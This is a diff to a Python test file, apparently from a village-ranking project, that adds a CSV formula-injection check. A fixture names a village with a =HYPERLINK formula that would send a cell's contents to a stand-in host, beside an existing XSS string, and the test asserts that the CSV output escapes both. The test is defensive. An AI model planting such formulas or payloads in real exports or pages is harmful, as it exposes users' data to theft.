@@ -30,13 +30,15 @@ from paritrana_nb.uncertainty import DEFAULT_SEED
 ROOT = Path(__file__).resolve().parents[2]
 PARAMS = ROOT / "params"
 XSS = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://x/?d="&A2,"Klik")'
 
 
 def season_with_markup_name(data_dir: Path) -> Path:
-    """The small season, with one regency named like an injection attempt."""
+    """The small season, with one regency named like an injection attempt and one village like a formula."""
     tables = small_season_tables()
     wilayah = tables["wilayah"]
     wilayah.loc[wilayah["kode_wilayah"] == "61.10", "nama"] = XSS
+    tables["desa"].loc[tables["desa"]["kode_desa"] == "61.04.02.2003", "nama"] = FORMULA
     return write_season(data_dir, tables)
 
 
@@ -181,6 +183,9 @@ def test_full_ranking_csv_beside_each_report(rendered: Path) -> None:
     assert sorted(written["id_peserta"]) == sorted(mine["id_peserta"])
     ranks = dict(zip(mine["id_peserta"], mine["peringkat"].astype(float)))
     assert all(ranks[r.id_peserta] == r.peringkat for r in written.itertuples())
+    names = dict(zip(written["id_peserta"], written["nama"]))
+    assert names["61.04.02.2003"] == "'" + FORMULA  # shown as text, never run by a spreadsheet
+    assert names["61.10"] == XSS
 
 
 def test_large_groups_show_finalists_and_top_ranks_only(monkeypatch: pytest.MonkeyPatch) -> None:
